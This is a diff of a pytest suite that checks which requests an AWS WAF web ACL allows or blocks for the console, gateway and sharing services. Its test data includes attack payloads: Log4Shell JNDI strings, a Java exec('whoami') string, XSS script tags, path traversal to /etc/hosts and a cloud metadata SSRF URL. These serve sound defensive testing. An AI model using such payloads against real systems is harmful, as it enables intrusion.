@@ -1,155 +1,239 @@
-"""Web ACL: requests with secrets pass the rules for bodies, and all other requests do not.
+"""Web ACL: the services' own requests pass, and other requests with the patterns of attacks do not."""
 
-The test evaluates the program's rules as documented by AWS WAF (AWS WAF Developer Guide, "Rule and rule group priority",
-"Label match rule statement", "Overriding rule group actions").
-"""
-
-import re
-from collections.abc import Iterable
-from dataclasses import dataclass
+import json
 from typing import Any
 
 import pytest
+from gatehouse.console.asgi import document as console
+from gatehouse.gateway.routes import document as gateway
+from gatehouse.sharing.public_routes import document as sharing
 
 from tests.components.program import run
 from tests.components.settings.stack_settings import STACKS
+from tests.components.waf import BROWSER, Request, WebAcl, managed_rule_groups
 
-BODY_RULES = {
-    "AWSManagedRulesCommonRuleSet": (
-        "awswaf:managed:aws:core-rule-set",
-        ("SizeRestrictions", "EC2MetaDataSSRF", "GenericLFI", "GenericRFI", "CrossSiteScripting"),
-    ),
-    "AWSManagedRulesKnownBadInputsRuleSet": (
-        "awswaf:managed:aws:known-bad-inputs",
-        ("JavaDeserializationRCE", "Log4JRCE", "ReactJSRCE"),
-    ),
+DOCUMENTS = {"gateway": gateway, "console": console, "sharing": sharing}
+CLOUDFRONT = {"services.console.hosting": "cloudfront"}
+WEB_ACLS: dict[str, tuple[str, dict[str, Any], str, tuple[str, ...]]] = {
+    **{stack: (stack, {}, "web-acl", tuple(DOCUMENTS)) for stack in STACKS},
+    "cloudfront": ("staging", CLOUDFRONT, "cloudfront", ("console",)),
+    "behind CloudFront": ("staging", CLOUDFRONT, "web-acl", ("gateway", "sharing")),
 }
-"""The rules that inspect bodies. Source: AWS WAF Developer Guide, "Baseline rule groups"."""
-OTHER_RULES = {
-    "AWSManagedRulesCommonRuleSet": ("GenericLFI_URIPATH", "CrossSiteScripting_QUERYARGUMENTS", "EC2MetaDataSSRF_COOKIE"),
-    "AWSManagedRulesKnownBadInputsRuleSet": ("Log4JRCE_HEADER", "ExploitablePaths_URIPATH"),
+"""Stack, changed settings, resource name and services of each web ACL."""
+SERVED = [(name, service) for name, (_, _, _, services) in WEB_ACLS.items() for service in services]
+FILES = ("reports/2026/app.log", "nginx.conf")
+TEXTS = (
+    *FILES,
+    "http://10.0.3.7:8080",
+    "https://192.0.2.4/webhooks?from=gatehouse",
+    "http://169.254.169.254/latest/meta-data/",
+    "../../etc/hosts",
+    '<script>alert("hello")</script>',
+    "<a onclick=run()>",
+    "long " * 2_000,
+)
+"""Legal values of text fields, of query arguments, and of Cores' URLs."""
+BODY_TEXTS = (*TEXTS, "${jndi:ldap://example.com/}", '(java.lang.Runtime).getRuntime().exec("whoami")', '{"__proto__": 1}')
+"""Legal values of text fields in request bodies."""
+CLIENTS: tuple[dict[str, str], ...] = (BROWSER, {}, {"user-agent": "curl/8.14.1"})
+PATH_VALUES = {"name": "docs", "instance": "worker-1.log", "path": "reports/app.log"}
+CORE_PATHS = (
+    "reports/app.log",
+    "etc/../nginx.conf",
+    "backup.bak",
+    "proxy/http://10.0.3.7/etc/hosts",
+    "x" * 2_000,
+    "%3Cscript%3E",
+    "settings.ini",
+)
+PAGES = {
+    "gateway": ("/healthz", "/readyz", "/openapi.json"),
+    "console": ("/", "/keys", "/sign-in/callback", "/cores/file", "/healthz", "/readyz", "/openapi.json", "/assets/index.js"),
+    "sharing": ("/", "/s/5tRw0aB9xK2m7HqYc1dZ8e1dZ8eU", "/r/5tRw0aB9xK2m7HqYc1dZ8e", "/style.css", "/healthz", "/openapi.json"),
 }
-"""Some of the rules that inspect other parts of a request."""
-BODY_NAMES = [f"{name}_BODY" for _, names in BODY_RULES.values() for name in names]
-OTHER_NAMES = [name for names in OTHER_RULES.values() for name in names]
-SECRETS = [
-    *(("console", path) for path in ("/v1/secrets", "/v1/secrets/5tRw0aB9xK2m7HqYc1dZ8e/content", "/v1/secret-requests")),
-    *(("sharing", path) for path in ("/", "/s/5tRw0aB9xK2m7HqYc1dZ8e1dZ8eU", "/s/5tRw0aB9xK2m7HqYc1dZ8e1dZ8eU/items/0")),
-    *(
-        ("sharing", path)
-        for path in ("/v1/links/open", "/v1/links/acknowledge", "/r/5tRw0aB9xK2m7HqYc1dZ8e", "/v1/requests/submit")
-    ),
-]
+"""Requests that the OpenAPI documents do not contain."""
+FORMS = (
+    "/",
+    "/s/5tRw0aB9xK2m7HqYc1dZ8e1dZ8eU",
+    "/s/5tRw0aB9xK2m7HqYc1dZ8e1dZ8eU/items/0",
+    "/s/5tRw0aB9xK2m7HqYc1dZ8e1dZ8eU/acknowledge",
+    "/r/5tRw0aB9xK2m7HqYc1dZ8e",
+)
+"""Forms of the sharing service whose fields are secrets, passphrases or links."""
 OTHERS = [
-    *(("console", path) for path in ("/", "/v1/keys", "/v1/secretsx", "/console/v1/secrets", "/v1/keys/v1/secrets", "/s/x")),
+    *(("console", path) for path in ("/", "/console/v1/secrets", "/v1", "/s/x", "/assets/index.js")),
     *(("sharing", path) for path in ("/style.css", "/v1/secrets", "/v1/linksx", "/x/s/")),
-    *(("gateway", path) for path in ("/v1/secrets", "/s/x", "/cores/files/")),
 ]
+"""Paths at which no service accepts a request body with text."""
 
 
-@dataclass(frozen=True)
-class Request:
-    """A request for which these managed rules match."""
-
-    host: str
-    path: str
-    matched: frozenset[str]
+def web_acl(name: str) -> WebAcl:
+    stack, changes, resource, _ = WEB_ACLS[name]
+    return WebAcl(run(stack, changes=changes).get("wafv2/webAcl:WebAcl", resource).inputs)
 
 
-class WebAcl:
-    """Evaluates requests below the rate limits from IP addresses with a good reputation."""
-
-    def __init__(self, stack: str) -> None:
-        (acl,) = run(stack).of_type("wafv2/webAcl:WebAcl")
-        self._rules = sorted(acl.inputs["rules"], key=lambda rule: rule["priority"])
-        self._hosts = {service: url.removeprefix("https://") for service, url in run(stack).exports["urls"].items()}
-        assert acl.inputs["defaultAction"] == {"allow": {}}
-
-    def blocked_by(self, service: str, path: str, matched: Iterable[str]) -> str | None:
-        """Name of the rule that blocks a request."""
-        request, labels = Request(self._hosts[service], path, frozenset(matched)), set[str]()
-        for rule in self._rules:
-            statement = rule["statement"]
-            if "rateBasedStatement" in statement:
-                continue
-            if "managedRuleGroupStatement" in statement:
-                assert rule["overrideAction"] == {"none": {}}
-                if _group_blocks(statement["managedRuleGroupStatement"], request, labels):
-                    return str(rule["name"])
-            elif _matches(statement, request, labels):
-                assert "block" in rule["action"]
-                return str(rule["name"])
-        return None
+def host(name: str, service: str) -> str:
+    stack, _, _, _ = WEB_ACLS[name]
+    return str(run(stack).exports["urls"][service]).removeprefix("https://")
 
 
-def _group_blocks(group: dict[str, Any], request: Request, labels: set[str]) -> bool:
-    namespace, bodies = BODY_RULES.get(group["name"], ("", ()))
-    counted = {override["name"] for override in group.get("ruleActionOverrides", ())}
-    assert counted <= {f"{name}_BODY" for name in bodies}, "the rule group has no such rule for bodies"
-    assert all(override["actionToUse"] == {"count": {}} for override in group.get("ruleActionOverrides", ()))
-    matched = [f"{name}_BODY" for name in bodies if f"{name}_BODY" in request.matched]
-    matched += request.matched.intersection(OTHER_RULES.get(group["name"], ()))
-    labels |= {f"{namespace}:{name}_Body" for name in bodies if f"{name}_BODY" in request.matched}
-    return not counted.issuperset(matched)
+def operations(service: str) -> list[tuple[str, str, dict[str, Any]]]:
+    """Method, path with values, and declaration of each documented operation."""
+    found = []
+    for template, methods in DOCUMENTS[service]()["paths"].items():
+        path = template
+        for parameter in [part.partition("}")[0] for part in template.split("{")[1:]]:
+            path = path.replace(f"{{{parameter}}}", PATH_VALUES.get(parameter, "3fGh82kLmQ0a"))
+        found += [(method.upper(), path, operation) for method, operation in methods.items() if method != "parameters"]
+    return found
 
 
-def _matches(statement: dict[str, Any], request: Request, labels: set[str]) -> bool:
-    ((kind, value),) = statement.items()
-    if kind == "andStatement":
-        return all(_matches(inner, request, labels) for inner in value["statements"])
-    if kind == "orStatement":
-        return any(_matches(inner, request, labels) for inner in value["statements"])
-    if kind == "notStatement":
-        return not _matches(value["statement"], request, labels)
-    if kind == "labelMatchStatement":
-        assert value["scope"] == "LABEL"
-        return value["key"] in labels
-    field = request.path if "uriPath" in value["fieldToMatch"] else request.host
-    assert value["fieldToMatch"] in ({"uriPath": {}}, {"singleHeader": {"name": "host"}})
-    if kind == "regexMatchStatement":
-        return re.search(value["regexString"], field) is not None
-    assert kind == "byteMatchStatement"
-    text = str(value["searchString"])
-    tests = {"EXACTLY": field == text, "STARTS_WITH": field.startswith(text)}
-    return tests[value["positionalConstraint"]]
+def own_requests(name: str, service: str) -> list[Request]:
+    """Requests to each documented operation with ordinary and unusual legal values, and requests to pages."""
+    at = host(name, service)
+    requests = [Request(host=at, path=path, headers=client) for path in PAGES[service] for client in (BROWSER,)]
+    for method, path, operation in operations(service):
+        if path == "/metrics":
+            continue  # The web ACL blocks this path, because it is for the network of the stack only.
+        requests += [Request(host=at, path=path, method=method, headers=client) for client in CLIENTS]
+        requests.append(Request(host=f"{at}:443", path=path, method=method, headers={}, body=b'{"url": "http://10.0.3.7"}'))
+        queries = [item["name"] for item in operation.get("parameters", ()) if item.get("in") == "query"]
+        requests += [Request(host=at, path=path, method=method, query=f"{query}={text}") for query in queries for text in TEXTS]
+        for content in operation.get("requestBody", {}).get("content", ()):
+            bodies = [_body(content, text) for text in BODY_TEXTS]
+            requests += [Request(host=at, path=path, method=method, body=body) for body in bodies]
+    return requests
+
+
+def _body(content: str, text: str) -> bytes:
+    if content == "application/json":
+        return json.dumps({"note": text}).encode()
+    return b'--x\r\nContent-Disposition: form-data; name="text"\r\n\r\n' + text.encode() + b"\r\n--x--\r\n"
+
+
+def blocked(name: str, requests: list[Request]) -> dict[str, str]:
+    acl = web_acl(name)
+    results = {f"{item.method} {item.path[:60]}?{item.query[:60]} {item.body[:60]!r}": acl.blocked_by(item) for item in requests}
+    return {request: rule for request, rule in results.items() if rule is not None}
 
 
 @pytest.mark.requirement("ECS-04", "SS-06")
-@pytest.mark.parametrize("stack", STACKS)
-def test_secrets_are_arbitrary_text(stack: str) -> None:
-    acl = WebAcl(stack)
-    assert {where: acl.blocked_by(*where, BODY_NAMES) for where in SECRETS} == dict.fromkeys(SECRETS)
+@pytest.mark.parametrize(("name", "service"), SERVED)
+def test_documented_requests_pass(name: str, service: str) -> None:
+    requests = own_requests(name, service)
+    assert len(requests) > 30
+    assert blocked(name, requests) == {}
+
+
+@pytest.mark.requirement("ECS-04", "CG-02")
+@pytest.mark.parametrize("method", ["GET", "PUT", "PATCH", "PROPFIND", "MKCOL"])
+def test_requests_to_cores_are_arbitrary(method: str) -> None:
+    at = host("prod", "gateway")
+    cookie = {"cookie": "theme=<b>dark</b>; url=http://169.254.169.254/; pad=" + "x" * 12_000}
+    requests = [
+        Request(host=at, path=f"/cores/docs/{path}", method=method, query=query, headers=headers, body=body)
+        for path in CORE_PATHS
+        for query in ("", *(f"q={text}" for text in TEXTS))
+        for headers in ({}, cookie)
+        for body in (b"", *(text.encode() for text in BODY_TEXTS))
+    ]
+    assert blocked("prod", requests) == {}
+
+
+@pytest.mark.requirement("SS-06")
+@pytest.mark.parametrize("name", [name for name, service in SERVED if service == "sharing"])
+def test_forms_with_secrets_are_arbitrary_text(name: str) -> None:
+    at = host(name, "sharing")
+    requests = [
+        Request(host=at, path=path, method="POST", body=b"secret=" + text.encode()) for path in FORMS for text in BODY_TEXTS
+    ]
+    assert blocked(name, requests) == {}
 
 
 @pytest.mark.requirement("ECS-04")
-@pytest.mark.parametrize("stack", STACKS)
-@pytest.mark.parametrize("name", BODY_NAMES)
-def test_body_rules_block_all_other_requests(stack: str, name: str) -> None:
-    acl = WebAcl(stack)
-    size = name == "SizeRestrictions_BODY"
-    blocked = {where: acl.blocked_by(*where, [name]) for where in OTHERS}
-    assert blocked == {(service, path): _expected(service, size=size) for service, path in OTHERS}
-
-
-def _expected(service: str, *, size: bool) -> str | None:
-    if size:
-        return None if service == "gateway" else "body-size"  # uploads to Cores
-    return "body-content"
+@pytest.mark.parametrize("query", ["search=app.log", "search=http://10.0.3.7", f"code={'c' * 3_000}&state=s", "path=../x"])
+@pytest.mark.parametrize("path", PAGES["console"])
+def test_query_strings_of_console_pages_are_arbitrary(path: str, query: str) -> None:
+    assert blocked("prod", [Request(host=host("prod", "console"), path=path, query=query)]) == {}
 
 
 @pytest.mark.requirement("ECS-04")
-@pytest.mark.parametrize("name", OTHER_NAMES)
-def test_rules_for_other_parts_block_requests_with_secrets(name: str) -> None:
-    acl = WebAcl("prod")
-    assert None not in {acl.blocked_by(*where, [name]) for where in (*SECRETS, *OTHERS)}
-    assert acl.blocked_by("sharing", "/metrics", ()) == "metrics"
+@pytest.mark.parametrize("name", WEB_ACLS)
+@pytest.mark.parametrize("text", [text for text in BODY_TEXTS if text not in FILES])
+def test_bodies_are_inspected_elsewhere(name: str, text: str) -> None:
+    acl = web_acl(name)
+    others = [(service, path) for service, path in OTHERS if (name, service) in SERVED]
+    requests = [Request(host=host(name, where), path=path, method="POST", body=text.encode()) for where, path in others]
+    expected = "body-size" if len(text) > 8192 else "content"
+    assert {acl.blocked_by(request) for request in requests} == {expected}
+
+
+@pytest.mark.requirement("ECS-04")
+@pytest.mark.parametrize("service", ["console", "sharing"])
+def test_other_parts_are_inspected(service: str) -> None:
+    acl, at = web_acl("prod"), host("prod", service)
+    expected = [
+        (Request(host=at, path="/v1/x/../../etc/hosts"), "common/GenericLFI_URIPATH"),
+        (Request(host=at, path="/" + "x" * 1_100), "common/SizeRestrictions_URIPATH"),
+        (Request(host=at, path="/web-inf/web.xml"), "known-bad-inputs/ExploitablePaths_URIPATH"),
+        (Request(host=at, path="/app.log"), "content"),
+        (Request(host=at, path="/index.html", headers={}), "content"),
+        (Request(host=at, path="/v1/keys", headers={**BROWSER, "x": "${jndi:ldap://x}"}), "known-bad-inputs/Log4JRCE_HEADER"),
+        (Request(host=at, path="/v1/keys", headers={**BROWSER, "cookie": "a=<script>"}), "common/CrossSiteScripting_COOKIE"),
+        (Request(host=at, path="/x", method="PROPFIND"), "content"),
+        (Request(host=at, path="/metrics"), "metrics"),
+    ]
+    assert [(request, acl.blocked_by(request)) for request, _ in expected] == expected
+
+
+@pytest.mark.requirement("ECS-04")
+def test_unused_query_strings_are_inspected() -> None:
+    acl = web_acl("prod")
+    queries = [f"q={text}" for text in TEXTS]
+    requests = [Request(host=host("prod", "sharing"), path="/", query=query) for query in queries]
+    assert {acl.blocked_by(request) for request in requests} == {"query"}
+
+
+@pytest.mark.requirement("ECS-04")
+def test_exploits_of_known_vulnerabilities_do_not_reach_cores() -> None:
+    acl, at = web_acl("prod"), host("prod", "gateway")
+    requests = [
+        Request(host=at, path="/cores/docs/web-inf/web.xml"),
+        Request(host=at, path="/cores/docs/x", query="q=${jndi:ldap://example.com/}"),
+        Request(host=at, path="/cores/docs/x", headers={"x-name": "${jndi:ldap://example.com/}"}),
+    ]
+    assert [acl.blocked_by(request) for request in requests] == [
+        "known-bad-inputs/ExploitablePaths_URIPATH",
+        "known-bad-inputs/Log4JRCE_QUERYSTRING",
+        "known-bad-inputs/Log4JRCE_HEADER",
+    ]
+
+
+@pytest.mark.parametrize("name", WEB_ACLS)
+def test_labels_exist(name: str) -> None:
+    documented = {f"{group['namespace']}:{rule['label']}" for group in managed_rule_groups().values() for rule in group["rules"]}
+    used = set(_labels([rule["statement"] for rule in web_acl(name).rules]))
+    assert used
+    assert used <= documented
+
+
+def _labels(value: Any) -> list[str]:
+    if isinstance(value, dict):
+        own = [value["key"]] if value.get("scope") == "LABEL" else []
+        return own + [label for inner in value.values() for label in _labels(inner)]
+    return [label for inner in value for label in _labels(inner)] if isinstance(value, list) else []
+
+
+@pytest.mark.parametrize("name", WEB_ACLS)
+def test_capacity_is_included_in_the_price(name: str) -> None:
+    """More than 1,500 WCU cost extra (AWS WAF Developer Guide, "Web ACL capacity units (WCUs) in AWS WAF")."""
+    assert 925 < web_acl(name).capacity() <= 1_500
 
 
 def test_blocked_bodies_have_their_own_status() -> None:
-    (acl,) = run("prod").of_type("wafv2/webAcl:WebAcl")
     status = {
         rule["name"]: rule["action"]["block"]["customResponse"]["responseCode"]
-        for rule in acl.inputs["rules"]
+        for rule in web_acl("prod").rules
         if "action" in rule
     }
-    assert (status["body-size"], status["body-content"]) == (413, 403)
+    assert (status["body-size"], status["content"], status["query"]) == (413, 403, 403)
